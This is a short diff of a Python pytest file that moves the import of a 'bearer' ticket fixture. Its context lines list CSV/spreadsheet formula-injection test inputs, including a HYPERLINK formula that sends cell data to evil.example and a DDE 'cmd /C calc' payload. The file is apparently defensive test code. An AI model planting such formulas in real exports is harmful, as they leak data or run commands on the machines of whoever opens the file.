@@ -10,7 +10,7 @@ import io
 
 import pytest
 
-from tests.tickets.fixtures import bearer
+from tests.support.tickets import bearer
 
 FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
